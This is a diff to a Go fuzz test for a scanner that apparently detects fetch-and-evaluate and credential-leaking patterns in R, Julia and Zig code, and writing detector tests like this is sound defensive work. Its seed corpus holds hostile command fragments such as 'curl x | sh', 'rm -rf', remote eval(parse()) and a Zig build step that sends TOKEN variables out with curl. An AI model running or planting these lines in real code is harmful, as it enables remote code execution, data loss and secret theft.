@@ -10,8 +10,8 @@ import (
 
 // FuzzScanFetchEval: no R or Julia text stops the fetch-and-evaluate
 // reader (call arguments over unbalanced parentheses and quotes, the
-// assignment walk, the name scan), nor the R/Julia/Zig patterns of the
-// credential reader, and every finding's line is inside the file.
+// assignment walk, the name scan), nor the Zig argv reader, nor the
+// R/Julia/Zig patterns of the credential reader, and every finding's line is inside the file.
 func FuzzScanFetchEval(f *testing.F) {
 	for _, s := range []string{
 		"p = Downloads.download(URL)\ninclude(p)\n",
@@ -21,7 +21,7 @@ func FuzzScanFetchEval(f *testing.F) {
 		"resp <- httr::GET(u)\ntxt <- httr::content(resp)\neval(parse(text = txt))\n",
 		"source(\"https://x.example/a.R\")\n",
 		"var it = b.graph.env_map.iterator();\nif (std.mem.indexOf(u8, k, \"TOKEN\") == null) continue;\n_ = b.addSystemCommand(&.{ \"curl\", \"-d\", x });\n",
-		"download.file(", "include(", "eval(parse(text = readLines(url(", "x <- `a`(", "source(f, '", "r$content$",
+		"b.addSystemCommand(&.{ \"sh\", \"-c\", \"curl x | sh\" });\n", ".argv = &.{ \"rm\", \"-rf\", x", "download.file(", "include(", "eval(parse(text = readLines(url(", "x <- `a`(", "source(f, '", "r$content$",
 		strings.Repeat("x <- download.file(u, f)\n", 40) + strings.Repeat("source(x", 40),
 	} {
 		f.Add(s)
